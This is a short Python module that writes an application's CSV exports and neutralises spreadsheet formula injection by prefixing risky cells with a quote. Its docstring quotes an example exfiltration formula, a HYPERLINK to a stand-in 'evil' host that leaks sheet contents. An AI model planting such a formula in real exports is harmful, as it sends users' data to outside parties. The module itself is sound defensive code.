"""The one CSV writer of every export: formula-safe cells, a header that covers every row.

Exports carry untrusted text (prompts, model output, uploaded file names). A spreadsheet runs a
cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab/CR before one) as a formula —
``=HYPERLINK("https://evil/?"&A1, "click")`` leaks the sheet — so such cells get a leading ``'``,
which spreadsheets show as text. History, Batch and Comparison exports all write through here.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping, Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """Neutralise spreadsheet formulas in untrusted text cells (numbers stay numbers)."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def rows_csv_bytes(rows: Sequence[Mapping[str, Any]], drop: Sequence[str] = ()) -> bytes:
    """UTF-8 CSV of flat rows, every cell formula-safe; columns in first-seen order; empty for no rows."""
    fields: dict[str, None] = {}
    for row in rows:
        fields.update((k, None) for k in row if k not in drop)
    buffer = io.StringIO()
    if rows:
        writer = csv.DictWriter(buffer, fieldnames=list(fields), extrasaction="ignore")
        writer.writeheader()
        writer.writerows({k: csv_safe(v) for k, v in row.items() if k in fields} for row in rows)
    return buffer.getvalue().encode("utf-8")
